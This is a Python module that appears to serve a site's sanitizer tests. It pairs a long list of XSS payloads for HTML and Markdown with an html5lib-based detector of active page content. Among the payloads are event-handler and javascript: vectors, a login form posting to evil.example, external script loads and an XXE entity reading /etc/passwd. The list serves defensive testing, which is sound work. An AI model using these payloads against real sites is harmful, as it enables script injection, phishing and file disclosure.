"""Texts that attack a page, as they are met in the wild, and what is active in a page, read by the parser of browsers.

Vectors: the cheat sheet of OWASP (« XSS Filter Evasion »), the one of PortSwigger, and those that aim at renderers of
Markdown (cujanovic/Markdown-XSS-Payloads), each cut to one example of its kind. html5lib follows the parsing of the
HTML standard, and stands in no part of what makes texts safe (markdown-it, nh3).
"""

import json
import re
import warnings
from collections.abc import Iterator
from xml.etree.ElementTree import Element

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # written before today’s Python
    import html5lib

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/xss src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' ONERROR='alert(1)'//",
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img src=`javascript:alert(1)`>",
    "<image/src/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>lire</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(//evil.example/x)'>lire</div>",
    "<div style=width:expression(alert(1))>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<a href=javascript:alert(1)>lire</a>",
    "<a href='&#x6A;&#x61;vascript:alert(1)'>lire</a>",
    "<a href='java\tscript:alert(1)'>lire</a>",
    "<a href=' \x01javascript:alert(1)'>lire</a>",
    "<a onmouseover=alert(1)>lire</a>",
    "<form action=//evil.example/><input name=password><button>Se connecter</button></form>",
    "<button formaction=javascript:alert(1)>lire</button>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<template><script>alert(1)</script></template>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>alert(1);//<</script>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[lire](javascript:alert(1))",
    "[lire](JaVaScRiPt:alert(1))",
    "[lire](javascript&colon;alert(1))",
    "[lire](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29)",
    "[lire](java\tscript:alert(1))",
    "[lire](<java\nscript:alert(1)>)",
    "[lire](vbscript:msgbox(1))",
    "[lire](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[lire](   javascript://www.example.org/%0Aalert(1))",
    '[lire](https://example.org/"onmouseover="alert(1))',
    "[lire](https://example.org 'x' onclick=alert(1))",
    "[lire](https://example.org \"' onclick='alert(1)\")",
    "[lire]: javascript:alert(1)\n\n[lire]",
    "[lire]: (javascript:alert(1))",
    "![lire](javascript:alert(1))",
    "![lire](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://example.org/x.png)',
    '![x](https://example.org/x.png"onerror="alert(1))',
    '![x" onerror="alert(1)](image:1)',
    '![x](image:1 "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "<https://example.org/'onclick='alert(1)>",
    "https://example.org/<script>alert(1)</script>",
    'https://example.org/"onmouseover="alert(1)',
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <svg/onload=alert(1)>",
    "**<script>**alert(1)**</script>**",
    "*<img src=x onerror=alert(1)*>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[@<script>alert(1)</script>](/membres/1/)",
    "//evil.example/x.js",
    "\\<script>alert(1)\\</script>",
    "\u202ealert(1)\u202d<script>",
)

XLINK = "{http://www.w3.org/1999/xlink}href"
LINKS = {"href", XLINK, "xlink:href"}
# What the browser asks for by itself, or sends what is typed to.
ASKED = {"src", "action", "formaction", "data", "poster", "ping"}
GOOD_LINK = re.compile(r"https?:|mailto:|tel:|[^:/?#]*([/?#]|$)", re.IGNORECASE)
OWN_ADDRESS = re.compile(r"(?!//)[^:/?#]*([/?#]|$)")
ACTIVE_TAGS = {
    "style", "iframe", "frame", "object", "embed", "applet", "base", "animate", "set", "animatetransform",
    "foreignobject", "math", "marquee", "xss", "isindex", "audio", "video",
}  # fmt: skip
FETCHING = re.compile(r"url\(|expression\(|@import", re.IGNORECASE)
# Attributes that no page of the site has.
ACTIVE_ATTRIBUTES = {"style", "srcdoc", "background", "srcset"}


def parse(html: str) -> Element:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return html5lib.parse(html, namespaceHTMLElements=False)


def active_parts(html: str, *, may_style: bool = False) -> list[str]:
    """Return what could act in a page, or reach another site by itself, in words for people: none in a page of ours.

    `may_style`: a mail has its styles in it, for want of a style sheet.
    """
    return [words for element in parse(html).iter() for words in _active_parts(element, may_style=may_style)]


def _active_parts(element: Element, *, may_style: bool) -> Iterator[str]:
    if not isinstance(element.tag, str):
        return  # a comment
    tag = element.tag.rpartition("}")[2].lower()
    attributes = {name.lower(): value.strip() for name, value in element.attrib.items()}
    is_style = tag == "style" and may_style and not FETCHING.search(element.text or "")
    is_refresh = tag == "meta" and "refresh" in attributes.get("http-equiv", "").lower()
    if (tag in ACTIVE_TAGS and not is_style) or is_refresh:
        yield f"<{tag}>"
    if tag == "script" and not _is_own_script(element, attributes):
        yield f"<script> {element.text or attributes}"
    for name, value in attributes.items():
        is_style = name == "style" and may_style and not FETCHING.search(value)
        if name.startswith("on") or (name in ACTIVE_ATTRIBUTES and not is_style):
            yield f"{tag} {name}={value}"
        # Browsers leave out controls and spaces before they read an address.
        good = {**dict.fromkeys(LINKS, GOOD_LINK), **dict.fromkeys(ASKED, OWN_ADDRESS)}.get(name)
        if good and not good.match(re.sub(r"[\x00-\x20]", "", value)):
            yield f"{tag} {name}={value}"


def _is_own_script(element: Element, attributes: dict[str, str]) -> bool:
    """Whether a script is a file of the site, or data for search engines."""
    if attributes.get("type") == "application/ld+json":
        return bool(json.loads(element.text or ""))
    return attributes.get("src", "").startswith("/static/") and not (element.text or "").strip()
